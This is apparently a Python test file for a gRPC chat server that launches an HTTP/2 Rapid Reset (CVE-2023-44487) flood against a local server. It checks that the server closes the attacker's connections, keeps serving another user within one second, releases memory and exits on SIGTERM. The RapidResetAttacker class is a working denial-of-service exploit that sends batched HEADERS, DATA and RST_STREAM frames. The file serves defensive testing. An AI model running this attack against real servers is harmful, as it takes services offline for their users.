"""Rapid reset (CVE-2023-44487, which Debian 12's gRPC 1.51 does not mitigate): a raw HTTP/2 client
opens streams and resets them at once, as fast as it can, for 15 s. Meanwhile another user's calls
must answer within 1 s; afterwards the server's memory must come back and SIGTERM must end it in
2 s.

The attacker speaks HTTP/2 with python3-h2's framing only for the preface; every stream after that
is one HEADERS frame (a SendMessage call, with its request in a DATA frame) and one RST_STREAM,
written in batches from precomputed bytes, so that one Python thread keeps the server busy.
"""

import os
import socket
import struct
import subprocess
import sys
import threading
import time
import unittest

import grpc
import h2.config
import h2.connection
import hpack

import harness

pb2, pb2_grpc = harness.load_generated(os.path.join(os.path.dirname(__file__), "workshop_chat.proto"))

ATTACK_SECONDS = 15.0
ANSWER_WITHIN = 1.0
RSS_GROWTH_LIMIT_KB = 256 * 1024
ATTACKER_ADDRESS = "127.0.0.2"

HEADERS, DATA, RST_STREAM = 0x1, 0x0, 0x3
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8


def frame(kind, flags, stream_id, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


class RapidResetAttacker:
    """One connection that opens and resets streams until stop(); counts the streams it sent."""

    def __init__(self, address, batch=200):
        host, port = address.rsplit(":", 1)
        # From 127.0.0.2: the server holds off the attacker's address, and the prober is on 127.0.0.1.
        self.socket = socket.create_connection((host, int(port)), source_address=(ATTACKER_ADDRESS, 0))
        # A server that shut the connection down reads no more: a write then waits for good.
        self.socket.settimeout(2.0)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.batch = batch
        self.streams = 0
        self.closed_by_server = False
        self._stopping = threading.Event()
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        self.socket.sendall(connection.data_to_send())
        # Literal header fields never indexed: the block is the same bytes on every stream.
        headers = [(":method", "POST"), (":scheme", "http"), (":path", "/chat.Chat/SendMessage"),
                   (":authority", address), ("content-type", "application/grpc"), ("te", "trailers")]
        self.header_block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in headers])
        request = pb2.Message(user=pb2.User(username="nobody"), msg="reset").SerializeToString()
        self.request = b"\x00" + struct.pack(">I", len(request)) + request
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self):
        """Reads what the server sends, acknowledging its SETTINGS, until the connection ends."""
        buffered = b""
        acknowledged = False
        while True:
            try:
                data = self.socket.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                if not self._stopping.is_set():
                    self.closed_by_server = True
                return
            if acknowledged:
                continue
            buffered += data
            # The server's first frame is its SETTINGS; an empty SETTINGS with the ACK flag answers it.
            if len(buffered) >= 9:
                self.socket.sendall(frame(0x4, 0x1, 0, b""))
                acknowledged = True

    def run(self, seconds):
        """Attacks for `seconds` or until the server closes the connection."""
        stream_id = 1
        deadline = time.monotonic() + seconds
        try:
            while time.monotonic() < deadline and stream_id < (1 << 31) - 2 * self.batch:
                chunk = bytearray()
                for _ in range(self.batch):
                    chunk += frame(HEADERS, END_HEADERS, stream_id, self.header_block)
                    chunk += frame(DATA, END_STREAM, stream_id, self.request)
                    chunk += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                    stream_id += 2
                self.socket.sendall(chunk)
                self.streams += self.batch
        except OSError:  # reset, closed, or no longer read
            self.closed_by_server = True

    def stop(self):
        self._stopping.set()
        try:
            self.socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.socket.close()


class Prober:
    """Another user: a SendMessage every 200 ms (within flood control) on a connection of its own; records the slowest answer."""

    def __init__(self, address):
        self.channel = grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)])
        self.stub = pb2_grpc.ChatStub(self.channel)
        self.slowest = 0.0
        self.failures = []
        self.answers = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._probe, daemon=True)

    def start(self):
        code = self.stub.AddUser(pb2.User(username="prober"), timeout=harness.PATIENCE).code
        if code != pb2.MessageResponse.ADDED:
            raise AssertionError(f"the prober was not added: {code}")
        self._thread.start()

    def _probe(self):
        while not self._stop.is_set():
            started = time.monotonic()
            try:
                self.stub.SendMessage(pb2.Message(user=pb2.User(username="prober"), msg="still here?"), timeout=harness.PATIENCE)
                self.answers += 1
            except grpc.RpcError as error:
                self.failures.append(f"{error.code()}: {error.details()}")
            self.slowest = max(self.slowest, time.monotonic() - started)
            self._stop.wait(0.2)

    def stop(self):
        self._stop.set()
        self._thread.join()
        self.channel.close()


def attack(address, seconds):
    """Rapid reset from one address for `seconds`, reconnecting whenever the server closes the
    connection. Returns (streams sent, connections the server closed)."""
    streams = closed = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            attacker = RapidResetAttacker(address)
        except OSError:
            time.sleep(0.01)  # refused: the address is held off for a while; try again
            continue
        attacker.run(deadline - time.monotonic())
        streams += attacker.streams
        closed += attacker.closed_by_server
        attacker.stop()
    return streams, closed


def attack_from_another_process(address, seconds):
    """attack() in a process of its own, so that it does not take the prober's interpreter lock."""
    done = subprocess.run([sys.executable, __file__, "--attack", address, str(seconds)],
                          capture_output=True, text=True, timeout=seconds + harness.PATIENCE)
    if done.returncode != 0:
        raise AssertionError(f"the attacker failed: {done.stderr}")
    streams, closed = done.stdout.split()
    return int(streams), int(closed)


class RapidResetTest(unittest.TestCase):
    def test_other_users_are_served_throughout_and_memory_comes_back(self):
        with harness.ServerProcess() as server:
            prober = Prober(server.address)
            prober.start()
            rss_before = server.rss_kb()
            cpu_before = server.cpu_seconds()
            peak = [rss_before]
            sampling = threading.Event()

            def sample():
                while not sampling.wait(0.1):
                    peak[0] = max(peak[0], server.rss_kb())
            sampler = threading.Thread(target=sample, daemon=True)
            sampler.start()

            streams, closed = attack_from_another_process(server.address, ATTACK_SECONDS)
            sampling.set()
            sampler.join()
            cpu = server.cpu_seconds() - cpu_before
            prober.stop()
            came_back = harness.wait_until(lambda: server.rss_kb() - rss_before < 64 * 1024)
            rss_after = server.rss_kb()
            code, seconds = server.stop()
            print(f"\n  rapid reset for {ATTACK_SECONDS:.0f} s: {streams} streams sent, the server closed "
                  f"{closed} connections; server CPU {cpu:.1f} s; RSS {rss_before} kB before, peak {peak[0]} kB, "
                  f"{rss_after} kB after; the other user's slowest answer {prober.slowest * 1000:.0f} ms over "
                  f"{prober.answers} sends; SIGTERM: exit {code} after {seconds:.2f} s", file=sys.stderr)
            self.assertGreater(closed, 0, "the server never closed the attacker's connection")
            self.assertEqual(prober.failures, [])
            self.assertEqual(code, 0)
            # Sanitizers slow the server several times over, and AddressSanitizer keeps freed memory
            # in quarantine: times and memory are measured without them.
            if not os.environ.get("CHAT_SANITIZE"):
                self.assertLess(peak[0] - rss_before, RSS_GROWTH_LIMIT_KB)
                self.assertTrue(came_back, "the server's memory did not come back after the attack")
                self.assertLess(prober.slowest, ANSWER_WITHIN)
                self.assertLess(seconds, 2.0)

if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "--attack":
        print(*attack(sys.argv[2], float(sys.argv[3])))
    else:
        unittest.main()
